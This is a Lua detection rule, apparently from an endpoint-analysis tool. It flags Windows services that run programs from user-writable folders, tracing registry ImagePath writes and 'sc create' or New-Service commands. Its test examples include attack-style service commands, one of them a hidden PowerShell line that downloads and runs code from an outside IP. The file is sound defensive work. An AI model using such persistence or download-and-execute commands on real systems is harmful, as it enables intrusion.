-- Services are set up by services.exe on behalf of others: by what the service is to run, not by who writes.

local accusation = require "kaiseki.detect.accusation"
local command = require "kaiseki.detect.command"
local dropped = require "kaiseki.detect.dropped"
local lineage = require "kaiseki.detect.lineage"
local memory = require "kaiseki.detect.memory"
local places = require "kaiseki.detect.places"
local programs = require "kaiseki.detect.programs"
local say = require "kaiseki.detect.say"
local setup = require "kaiseki.detect.setup"
local trusted = require "kaiseki.detect.trusted"

-- Who asked for a service of that name on a command line.
local asked = memory.of_case()

local function service_of(path)
    return path:match [[\[Ss][Ee][Rr][Vv][Ii][Cc][Ee][Ss]\([^\]+)\]]
end

local function plain_path(data)
    return (data:gsub("^\\%?%?\\", ""):gsub('^"', ""):gsub('".*$', ""))
end

-- Windows Installer is a service of its own.
local function runs_another(data)
    local first = command.all(data)[1]
    return first ~= nil and programs.named(first.program, "runner")
        and not (first.program == "msiexec" and first:has "/v" and #first.words == 2)
end

-- A program that came into Windows' folders in the capture writes there as one from a user's folder does.
local function is_planted(case, process)
    local file = dropped.image(case, process)
    return file ~= nil and not dropped.by_installer(file) and not places.in_program_files(file.path, case)
end

-- The file that a service is to run or load; what "\??\" and "\SystemRoot" stand for is left out.
local function file_of(data, case, index)
    local path = plain_path(data):gsub([[^\[Ss]ystem[Rr]oot\]], [[C:\Windows\]])
        :gsub("^%%[Ss]ystem[Rr]oot%%", [[C:\Windows]])
    return dropped.file(case, path, index) or dropped.file(case, path:match "^%S+" or path, index)
end

-- Where no program is at home; of these, on a drive's root only what was just put there.
local ODD = { data = true, share = true, root = true }

local function is_suspect(data, case, index)
    if places.in_user_place(data, case) then return true end
    if runs_another(data) then return true end
    local file = file_of(data, case, index)
    local odd = places.oddity((data:gsub("^\\%?%?\\", "")))
    if odd == "data" or (ODD[odd] and file and not dropped.by_installer(file)) then return true end
    if data:find([[\\127.0.0.1\]], 1, true) or data:lower():find([[\admin$\]], 1, true) then return true end
    local maker = file and not dropped.by_installer(file) and dropped.maker(file)
    return maker and (places.in_user_place(say.image(maker), case) or is_planted(case, maker)) or false
end

-- Windows' service host writes for whoever asked: most likely who put there what the service runs, or runs already.
local function planter(case, event, data)
    if not lineage.is_shell(event.process) then return nil end
    local file = file_of(data, case, event.index)
    local maker = file and not dropped.by_installer(file) and dropped.maker(file)
    if maker then return lineage.requester(maker) end
    local program = case:file(plain_path(data):match "^(.-%.[eE][xX][eE])%s" or plain_path(data))
    return program and program.run_as
end

local function on_registry(event, case)
    local data, name = event.registry.data or "", service_of(event.path)
    if not name or not is_suspect(data, case, event.index) then return end
    local process = asked(case)[name:lower()] or planter(case, event, data) or event.process
    case:finding { process = process, key = name, event = event }
end

-- The service's name where PowerShell is told to make or change one.
local function by_cmdlet(line)
    return command.first(line, function(each)
        local text = each.text:match "[Nn]ew%-[Ss]ervice%s.*" or each.text:match "[Ss]et%-[Ss]ervice%s.*"
        return text and text:lower():find("binarypathname", 1, true)
            and (text:match "%-[Nn]ame%s+['\"]?([^'\"%s]+)" or text:match "^%S+%s+['\"]?([^-'\"%s][^'\"%s]*)")
    end)
end

local function on_command(event, case)
    local made = by_cmdlet(event.child.command_line)
    if made then
        local requester = lineage.requester(event.process)
        asked(case)[made:lower()] = requester
        local program = event.child.command_line:lower():match "binarypathname%s+(.*)$"
        if places.in_user_place(program or "", case) then
            case:finding { process = requester, key = made, event = event }
        end
        return
    end
    local name = command.first(event.child.command_line, function(each)
        return each.program == "sc" and each:says("create", "config") and each.folded:find "binpath%s*=" and each.words
            or nil
    end)
    if not name then return end
    -- sc [\\server] create NAME
    local at = name[2]:sub(1, 2) == [[\\]] and 4 or 3
    local service, requester = name[at] or "?", lineage.requester(event.process)
    asked(case)[service:lower()] = requester
    if places.in_user_place(event.child.command_line, case) then
        case:finding { process = requester, key = service, event = event }
    end
end

-- What `sc` was told that the service runs; the whole command where it does not say.
local function program_of(line)
    local path = line:match "[Bb]inary[Pp]ath[Nn]ame%s+[\"']?([^\"']+)"
    if path then return path end
    return command.first(line, function(each)
        local at = each.program == "sc" and each.folded:find("binpath%s*=")
        local value = at and each.text:sub(at):match '^[%w]+%s*=%s*(.+)$'
        return value and (value:match '^"([^"]+)"' or value:match "^(.-)%s+[%w]+%s*=" or value)
    end) or line
end

-- The program in a user's place, or a file that came from there, that the service would run: the setting's data.
local function data_of(finding)
    for _, event in ipairs(finding.events) do
        if event.operation == "RegSetValue" then return event.registry.data or "", event.path end
    end
    return nil
end

-- Whether a setup program put there what the service runs, and what tells it; nil where none did.
local function installed_by(case, data)
    local program = plain_path(data)
    local file = dropped.file(case, program)
    local maker = file and dropped.maker(file)
    if maker and setup.owns(case, maker, program) then return "installs-program" end
    if maker and places.in_program_files(program, case) and trusted.is_kept(case, maker) then return "is-installed" end
    return maker and places.in_program_files(program, case) and setup.installs(case, maker, program) or nil
end

-- A driver is told as one: by the type that `sc` was told, or by what its file is called.
local function is_driver(program, line)
    local path = plain_path(program):lower():gsub("%s+$", "")
    return path:find "%.sys$" ~= nil or (line ~= nil and line:lower():find "type%s*=%s*\"?%s*kernel" ~= nil)
end

rule {
    id = "persistence.service",
    title = "Service runs a program from a user's folder",
    severity = "high",
    attack = { "T1543.003" },
    description = "A service's ImagePath or ServiceDll names a file in a place that a user can write, a shell, or a "
        .. "file that a program from such a place wrote.",
    references = { "https://attack.mitre.org/techniques/T1543/003/" },
    false_positives = { "Drivers that tools load from a temporary folder for as long as they run." },
    author = "kaiseki",
    match = (operation:is "RegSetValue" & result:is "SUCCESS" & path:contains [[\Services\]]
             & path:endswith { [[\ImagePath]], [[\ServiceDll]], [[\FailureCommand]] })
        | (operation:is "Process Create" & child.command_line:contains { "binpath", "BinaryPathName" }),
    on_event = function(event, case)
        if event.operation == "RegSetValue" then on_registry(event, case) else on_command(event, case) end
    end,
    excuse = function(finding, case)
        local data, path = data_of(finding)
        local how = data and installed_by(case, data)
        if how then return "low", how end
        return path and setup.is_brief(case, finding.process, path) and "medium" or nil
    end,
    weigh = function(finding, case)
        -- A driver that is there for as long as a tool runs weighs less whatever else the tool does.
        if finding.excuse == "medium" then return "medium" end
        return accusation.unless_accused(finding, case)
    end,
    finding = function(finding)
        local line = finding.events[1].child and finding.events[1].child.command_line
        local runs = data_of(finding) or program_of(line or "")
        return { is_driver(runs, line) and "set-up-driver" or "set-up-service", service = finding.key, command = runs }
    end,
    examples = {
        match = {
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
              path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]],
              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[C:\Users\x\AppData\Local\Temp\abc.exe]] },
            { operation = "Process Create", path = [[C:\Windows\System32\sc.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = [[sc create abc binPath= "C:\ProgramData\abc.exe" start= auto]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = [[powershell New-Service -Name S -BinaryPathName C:\Users\Public\a.exe]] },
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
              path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]],
              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[C:\Windows\Fonts\abc.exe]] },
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
              path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]], ["registry.type"] = "REG_EXPAND_SZ",
              ["registry.data"] = "conhost.exe --headless powershell -w hidden -c iex(irm 203.0.113.5)" },
        },
        no_match = {
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
              path = [[HKLM\System\CurrentControlSet\Services\Tool\ImagePath]],
              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [["C:\Program Files\Tool\service.exe"]] },
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
              path = [[HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\x]],
              ["registry.type"] = "REG_BINARY", ["registry.data"] = "00" },
            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "TiWorker.exe",
              path = [[HKLM\System\CurrentControlSet\Services\msiserver\ImagePath]],
              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[%systemroot%\system32\msiexec.exe /V]] },
        },
    },
}
